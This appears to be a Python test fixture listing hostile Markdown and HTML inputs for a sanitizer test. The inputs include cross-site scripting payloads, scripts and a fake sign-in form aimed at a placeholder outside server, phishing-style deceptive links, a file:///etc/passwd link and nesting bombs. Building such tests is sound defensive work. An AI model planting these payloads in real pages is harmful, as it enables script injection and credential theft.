"""Markdown as nobody should write it: it tries to run a script, to load something, or to deceive.

``{elsewhere}`` stands for a server that must never be asked. A script that runs says ``alert`` or
sets ``window.pwned``; the page's test sees both.
"""

from collections.abc import Mapping

SCRIPTS: Mapping[str, str] = {
    "script": "<script>window.pwned=1</script>",
    "script in capitals": "<ScRiPt>window.pwned=1</sCrIpT>",
    "script from elsewhere": '<script src="{elsewhere}/x.js"></script>',
    "module from elsewhere": '<script type="module">import "{elsewhere}/x.js"</script>',
    "script not closed": "<script>window.pwned=1",
    "script with a slash": "<script/x>window.pwned=1</script>",
    "script twice": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "script as data": '<script src="data:text/javascript,window.pwned=1"></script>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
    "template": "<template><img src=x onerror=window.pwned=1></template>",
    "comment": "<!--><img src=x onerror=window.pwned=1>-->",
    "comment that is odd": "<!--!><img src=x onerror=window.pwned=1>",
    "cdata": "<![CDATA[><img src=x onerror=window.pwned=1>]]>",
    "processing instruction": "<?xml ><img src=x onerror=window.pwned=1> ?>",
    "declaration": '<!DOCTYPE x [<!ENTITY y "<script>window.pwned=1</script>">]>&y;',
}

HANDLERS: Mapping[str, str] = {
    "image": "<img src=x onerror=alert(1)>",
    "image without blanks": "<img/src=x/onerror=alert(1)>",
    "image over lines": "<img\nsrc=x\nonerror=alert(1)\n>",
    "svg on load": "<svg onload=alert(1)>",
    "svg in svg": "<svg><svg/onload=alert(1)>",
    "body": "<body onload=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "pointer": '<p onpointerenter=alert(1) style="position:fixed;inset:0">x</p>',
    "animation": '<p style="animation:x" onanimationstart=alert(1)>x</p>',
    "popover": "<button popovertarget=x>y</button><p popover id=x onbeforetoggle=alert(1)>z</p>",
    "unclosed tag": "<img src=x onerror=alert(1) //",
    "quotes that break": "<a title='x' title=\"'><img src=x onerror=alert(1)>\">y</a>",
    "backquotes": "<img src=`x` onerror=alert(1)>",
    "entities": "&lt;img src=x onerror=alert(1)&gt;",
    "entities by number": "&#60;img src=x onerror=alert(1)&#62;",
    "a null in between": "<img src=x onerror\u0001=alert(1)>",
}

LINKS: Mapping[str, str] = {
    "javascript": "[press](javascript:alert(1))",
    "javascript in capitals": "[press](JaVaScRiPt:alert(1))",
    "javascript with a tab": "[press](java\tscript:alert(1))",
    "javascript with a tab by number": "[press](java&#9;script:alert(1))",
    "javascript with a line by number": "[press](<java&#10;script:alert(1)>)",
    "javascript behind a control character": "[press](\u0001javascript:alert(1))",
    "javascript by name": "[press](javascript&colon;alert(1))",
    "javascript by number": "[press](&#106;avascript:alert(1))",
    "javascript escaped": "[press](javascript\\:alert(1))",
    "javascript percent": "[press](javascript%3Aalert(1))",
    "javascript as a reference": "[press][x]\n\n[x]: javascript:alert(1)",
    "javascript between angles": "<javascript:alert(1)>",
    "javascript with slashes": "[press](javascript://x.example/%0Aalert(1))",
    "view-source": "[press](view-source:javascript:alert(1))",
    "data": "[press](data:text/html,<script>alert(1)</script>)",
    "data in base64": "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "blob": "[press](blob:{elsewhere}/x)",
    "vbscript": "[press](vbscript:msgbox(1))",
    "file": "[press](file:///etc/passwd)",
    "this server": "[press](/ui/logout)",
    "beside this server": "[press](//elsewhere.example/x)",
    "a title that breaks": "[press](https://x.example '\"><img src=x onerror=alert(1)>')",
    "an address that breaks": '[press](https://x.example/"onmouseover="alert(1))',
    "markup as a name": "[<img src=x onerror=alert(1)>](https://x.example)",
    "a link in a link": "[a [press](javascript:alert(1)) b](https://x.example)",
    "an attribute": '<a href="javascript:alert(1)">press</a>',
}

LOADS: Mapping[str, str] = {
    "image": "![x]({elsewhere}/x.png)",
    "image with a title": '![x]({elsewhere}/x.png "y")',
    "image as a reference": "![x][y]\n\n[y]: {elsewhere}/x.png",
    "image in a link": "[![x]({elsewhere}/x.png)](https://x.example)",
    "image in a table": "| a |\n|-|\n| ![x]({elsewhere}/x.png) |",
    "image as markup": "<img src={elsewhere}/x.png srcset='{elsewhere}/y.png 2x'>",
    "picture": "<picture><source srcset={elsewhere}/x.png><img></picture>",
    "style": "<style>body{{background:url({elsewhere}/x)}}</style>",
    "style that imports": "<style>@import '{elsewhere}/x.css';</style>",
    "style as an attribute": "<p style=\"background:url('{elsewhere}/x')\">y</p>",
    "link": '<link rel=stylesheet href="{elsewhere}/x.css">',
    "prefetch": '<link rel="dns-prefetch" href="{elsewhere}">',
    "base": '<base href="{elsewhere}/">',
    "refresh": '<meta http-equiv="refresh" content="0;url={elsewhere}/x">',
    "frame": '<iframe src="{elsewhere}/x"></iframe>',
    "frame with a document": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": '<object data="{elsewhere}/x.svg"></object>',
    "embed": '<embed src="{elsewhere}/x.svg">',
    "form": '<form action="{elsewhere}/x"><input name=key><button>Sign in again</button></form>',
    "button elsewhere": '<button formaction="javascript:alert(1)">press</button>',
    "svg image": '<svg><image href="{elsewhere}/x.png"/></svg>',
    "svg use": '<svg><use href="{elsewhere}/x.svg#y"/></svg>',
    "svg animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "xml": '<xml><x xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></xml>',
}

MUTATIONS: Mapping[str, str] = {
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "mathml link": '<math><maction href="javascript:alert(1)">press</maction></math>',
    "mathml and form": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "svg title": "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "raw text": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "no embed": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "plain text": "<plaintext><img src=x onerror=alert(1)>",
    "table out of place": "<table><a href=javascript:alert(1)>press</table>",
    "select": "<select><iframe src=javascript:alert(1)></select>",
    "name that shadows": "<form id=messages><input name=children></form><img name=body>",
}

NESTED: Mapping[str, str] = {
    "markup in code": "`<img src=x onerror=alert(1)>`",
    "markup in a block of code": "```html\n<img src=x onerror=alert(1)>\n```",
    "a language that breaks": '```"><img src=x onerror=alert(1)>\ncode\n```',
    "code that is not closed": "```\n<img src=x onerror=alert(1)>",
    "markup in a quote": "> <img src=x onerror=alert(1)>",
    "markup in a list": "- <img src=x onerror=alert(1)>\n  - <script>window.pwned=1</script>",
    "markup in a table": "| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <svg onload=alert(1)> | |",
    "markup in emphasis": "***<img src=x onerror=alert(1)>***",
    "markup in a heading": "# <img src=x onerror=alert(1)>",
    "a link in code in a link": "[`x](javascript:alert(1))`](javascript:alert(1))",
    "deep quotes": ">" * 3_000 + " <img src=x onerror=alert(1)>",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(200)),
    "deep brackets": "[" * 5_000 + "x" + "](javascript:alert(1))" * 500,
    "many marks": "_a_" * 20_000,
    "many stars": "a**b" * 20_000,
    "many entities": "&#x3c;img src=x onerror=alert(1)&#x3e;" * 500,
}

DECEPTIONS: Mapping[str, str] = {
    "a text that names another host": "[https://bank.example](https://thief.example/login)",
    "text turned around": "[moc.knab\u202e//:sptth](https://thief.example) \u202etxet",
    "letters that look alike": "[b\u0430nk.example](https://b\u0430nk.example)",
    "a name in the address": "[press](https://bank.example@thief.example/)",
    "a wide solidus": "[press](https:\uff0f\uff0fthief.example)",
    "marks that pile up": "Z" + "\u0301" * 2_000,
    "characters without width": "java\u200bscript\u2060:alert(1)",
    "a byte order mark": "\ufeff<script>window.pwned=1</script>",
    "line separators": "a\u2028<img src=x onerror=alert(1)>\u2029b",
    "half a pair": "\ud7ff\ue000<img src=x onerror=alert(1)>",
    "every name a prototype has": "&constructor; &__proto__; [x][__proto__] [y][constructor]",
    "definitions of such names": "[__proto__]: javascript:alert(1)\n\n[x][__proto__]",
}

ALL: Mapping[str, str] = {
    f"{group}: {name}": text
    for group, inputs in {
        "script": SCRIPTS,
        "handler": HANDLERS,
        "link": LINKS,
        "load": LOADS,
        "mutation": MUTATIONS,
        "nested": NESTED,
        "deception": DECEPTIONS,
    }.items()
    for name, text in inputs.items()
}


def inputs(elsewhere: str) -> dict[str, str]:
    """Every input, with the address of the server that must not be asked."""
    return {
        name: text.replace("{elsewhere}", elsewhere).replace("{{", "{").replace("}}", "}")
        for name, text in ALL.items()
    }
